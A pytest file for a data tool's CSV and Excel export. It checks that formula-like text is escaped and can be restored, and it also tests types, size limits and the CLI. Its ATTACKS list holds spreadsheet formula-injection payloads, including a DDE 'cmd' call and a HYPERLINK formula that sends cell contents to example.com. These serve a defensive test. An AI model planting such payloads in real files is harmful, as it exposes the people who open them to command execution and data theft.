from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestration import export
from orchestration.export import ExportError, as_file, escaped, to_csv, to_excel, unescaped
from tests.unit.test_cli import plumbline

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1-1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "Acme;=1+1",
    "Acme; =1+1;-2",
    "Acme|=1+1",
    "Acme\t@SUM(A1)",
    "two\n=lines",
    "two\r\n-lines",
]
HARMLESS = ["", "Acme", "a-b", "1=1", "ada@example.com", "O'Brien", "it's; fine", "'quoted'", "多"]
# What begins a cell for a program that does not know that the comma and the quotes do.
CUTS = [";", "|", "\t", "\r", "\n"]
text = st.text(st.sampled_from("=+-@＝'\" ;|,\t\r\nab\x00\ufeff") | st.characters(codec="utf-8"))


@pytest.fixture
def published(tmp_path: Path) -> Callable[..., Path]:
    """A published file with one mart, of a query."""

    def make(query: str, parameters: Sequence[Any] = (), mart: str = "rpt_small") -> Path:
        path = tmp_path / "plumbline.duckdb"
        path.unlink(missing_ok=True)
        with duckdb.connect(str(path)) as connection:
            connection.execute("create schema marts")
            connection.execute(f'create table marts."{mart}" as {query}', parameters)
            connection.execute(f"""comment on table marts."{mart}" is '=1+1'""")
            connection.execute("create table _build as select 'b1' as build_id, 'Acme' as company")
        return path

    return make


def read_csv(path: Path, mart: str = "rpt_small") -> list[list[str]]:
    file = io.StringIO(newline="")
    to_csv(path, mart, file)
    return list(csv.reader(io.StringIO(file.getvalue(), newline=""), strict=True))


def rows_of(path: Path) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True))


@pytest.mark.hazard("formulas")
@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_looks_like_a_formula_is_escaped_and_can_be_had_back(attack: str) -> None:
    assert escaped(attack) != attack
    assert unescaped(escaped(attack)) == attack


@pytest.mark.parametrize("harmless", HARMLESS)
def test_other_text_stays_as_it_is(harmless: str) -> None:
    assert escaped(harmless) == harmless


@pytest.mark.hazard("formulas")
@settings(deadline=None)
@given(text)
def test_no_cell_of_an_escaped_text_is_a_formula_however_it_is_cut(raw: str) -> None:
    cells = [escaped(raw)]
    for cut in CUTS:
        cells = [part for cell in cells for part in cell.split(cut)]

    blanks = "'\" \ufeff\u200b" + "".join(map(chr, range(32)))
    for cell in cells:
        # An apostrophe makes it text; anything else before the sign may be skipped.
        start = cell.lstrip().lstrip(blanks.replace("'", ""))
        assert not start.startswith(tuple("=+-@＝＋－＠")), (raw, cell)
    assert unescaped(escaped(raw)) == raw


@pytest.mark.hazard("formulas")
@settings(deadline=None)
@given(st.lists(st.tuples(text, st.integers(-(2**63), 2**63 - 1), st.floats()), max_size=5))
def test_csv_is_read_back_as_it_was(rows: list[tuple[str, int, float]]) -> None:
    columns = [[str(row[0]) for row in rows], [repr(row[1]) for row in rows]]
    lines = export._csv_lines(columns, [True, False])

    read = list(csv.reader(io.StringIO(lines, newline=""), strict=True))

    assert [(unescaped(a), int(b)) for a, b in read] == [row[:2] for row in rows]


def test_csv_holds_numbers_days_and_nothing_as_they_are(published: Callable[..., Path]) -> None:
    path = published(
        "select -5 as whole, -12.30::decimal(18, 2) as amount, 0.1::double as rate, "
        "1e-7::double as tiny, true as is_won, date '2026-01-31' as day, "
        "timestamp '2026-01-31 23:59:59.5' as at, null::varchar as nothing, '' as blank, "
        "'a \"b\", c' as words, ['=1', 'b'] as list, null::date as never"
    )

    [header, row] = read_csv(path)

    assert header[:3] == ["whole", "amount", "rate"]
    assert row == [
        *("-5", "-12.30", "0.1", "1e-07", "true", "2026-01-31", "2026-01-31 23:59:59.5"),
        *("", "", 'a "b", c', "['=1', b]", ""),
    ]
    file = io.StringIO(newline="")
    to_csv(path, "rpt_small", file)
    # RFC 4180: lines end with CR LF. An empty text is not the same as none.
    assert ',,"","a ""b"", c",' in file.getvalue().split("\r\n")[1]
    assert file.getvalue().endswith("\r\n")


@pytest.mark.hazard("formulas")
def test_a_header_is_escaped_as_well(published: Callable[..., Path], tmp_path: Path) -> None:
    path = published("""select 1 as "=1+1" """, mart="=mart")

    assert read_csv(path, "=mart") == [["'=1+1"], ["1"]]
    to_excel(path, "=mart", tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.worksheets[0]["A1"].data_type == "s"
    assert [cell.data_type for row in book["About"] for cell in row].count("f") == 0


@pytest.mark.hazard("formulas")
def test_excel_holds_text_numbers_and_days_by_their_type(
    published: Callable[..., Path], tmp_path: Path
) -> None:
    path = published(
        "select unnest($1) as words, -12.30::decimal(18, 2) as amount, 0.25::double as rate, "
        "true as is_won, date '2026-01-31' as day, timestamp '2026-01-31 23:59:58' as at, "
        "1234567890123456789 as big, null::double as nothing",
        [ATTACKS + HARMLESS],
    )

    assert to_excel(path, "rpt_small", tmp_path / "out.xlsx") == len(ATTACKS + HARMLESS)

    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]
    words = [cell for [cell] in sheet["A2:A100"] if cell.value is not None]
    clean = [
        attack.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")
        for attack in [*ATTACKS, *HARMLESS]
        if attack
    ]
    assert [cell.value for cell in words] == clean
    assert {cell.data_type for cell in words} == {"s"}
    assert [bool(cell.quotePrefix) for cell in words] == [escaped(one) != one for one in clean]
    assert [cell.value for cell in sheet[2][1:]] == [
        *(-12.3, 0.25, True, datetime(2026, 1, 31), datetime(2026, 1, 31, 23, 59, 58)),
        *("1234567890123456789", None),
    ]
    assert [sheet[2][place].number_format for place in (1, 4, 5)] == [
        *("#,##0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss")
    ]
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_an_excel_file_says_what_it_is(published: Callable[..., Path], tmp_path: Path) -> None:
    path = published("select range as id, 'a' as word from range(3)")
    with duckdb.connect(str(path)) as connection:
        connection.execute("comment on table marts.rpt_small is 'One row per id.'")
        connection.execute("comment on column marts.rpt_small.id is 'The id.'")

    to_excel(path, "rpt_small", tmp_path / "out.xlsx")

    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == ["rpt_small", "About"]
    assert book["rpt_small"].freeze_panes == "A2"
    assert book["rpt_small"].auto_filter.ref == "A1:B4"
    about = list(book["About"].iter_rows(values_only=True))
    assert ("description", "One row per id.") in [row[:2] for row in about]
    assert ("build_id", "b1") in [row[:2] for row in about]
    assert about[-2:] == [("id", "BIGINT", "The id."), ("word", "VARCHAR", None)]


@settings(deadline=None, max_examples=25)
@given(st.lists(st.tuples(text, st.decimals(-1000, 1000, places=2), st.dates()), max_size=5))
def test_excel_is_read_back_as_it_was(rows: list[tuple[str, Decimal, date]]) -> None:
    columns = tuple(
        export.Column(name, kind, "")
        for name, kind in (("a", "VARCHAR"), ("b", "DECIMAL(18,2)"), ("c", "DATE"))
    )
    file = io.BytesIO()
    mart = export.Mart("rpt_any", "", len(rows), columns, ())
    # Excel has no day before 1900.
    rows = [(a, b, max(c, date(1900, 3, 1))) for a, b, c in rows]

    export._write_workbook(mart, iter([rows]), file)  # type: ignore[arg-type]

    read = list(openpyxl.load_workbook(file).worksheets[0].iter_rows(values_only=True))[1:]
    expected = [
        (export._excel_text(a, "a") or None, float(b), datetime(c.year, c.month, c.day))
        for a, b, c in rows
    ]
    assert [(a, float(str(b)), c) for a, b, c in read] == expected


def test_what_excel_cannot_hold_is_refused_and_csv_named(
    published: Callable[..., Path], tmp_path: Path
) -> None:
    long = published("select repeat('多', 32767) || x as words from (values (''), ('a')) as t (x)")
    with pytest.raises(ExportError, match=r"words holds a text of 32,768 characters.*csv"):
        as_file(long, "rpt_small", tmp_path / "out.xlsx", excel=True, replace=False)
    many = published("select 1 as id from range(1048576)")
    with pytest.raises(ExportError, match=r"1,048,576 rows.*1,048,575.*csv"):
        as_file(many, "rpt_small", tmp_path / "out.xlsx", excel=True, replace=False)

    assert [path.name for path in tmp_path.iterdir()] == ["plumbline.duckdb"]
    assert as_file(many, "rpt_small", tmp_path / "out.csv", excel=False, replace=False) == 1048576


def test_a_file_appears_whole_with_the_mark_of_utf_8_and_replaces_none_unasked(
    published: Callable[..., Path], tmp_path: Path
) -> None:
    path = published("select 'Zürich' as city")
    target = tmp_path / "out.csv"

    as_file(path, "rpt_small", target, excel=False, replace=False)
    assert target.read_bytes() == b"\xef\xbb\xbf" + "city\r\nZürich\r\n".encode()
    with pytest.raises(ExportError, match="exists already: say --force"):
        as_file(path, "rpt_small", target, excel=False, replace=False)
    as_file(path, "rpt_small", target, excel=True, replace=True)

    assert rows_of(target.rename(tmp_path / "out.xlsx")) == [("city",), ("Zürich",)]
    assert {file.name for file in tmp_path.iterdir()} == {"plumbline.duckdb", "out.xlsx"}


def test_the_command_writes_prints_and_lists(
    published: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    place = tmp_path / "acme"
    (place / "published").mkdir(parents=True)
    (place / "workspace.yml").write_text("company: Acme\n")
    published("select 1 as id").rename(place / "published" / "plumbline.duckdb")

    assert plumbline("export", "-w", place).stdout.split() == ["rpt_small", "1", "=1+1"]
    assert plumbline("export", "rpt_small", "-w", place, "--to", "-").stdout == "id\n1\n"
    assert plumbline("export", "rpt_small", "-w", place, "--to", "a.xlsx").returncode == 0
    assert rows_of(tmp_path / "a.xlsx") == [("id",), (1,)]
    wrong = plumbline("export", "rpt_smal", "-w", place)
    assert wrong.returncode == 1
    assert "no mart rpt_smal (the nearest is 'rpt_small')" in wrong.stderr


def test_before_the_first_run_there_is_nothing_to_export(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="run `plumbline run` first"):
        to_csv(tmp_path / "plumbline.duckdb", "rpt_small", io.StringIO())
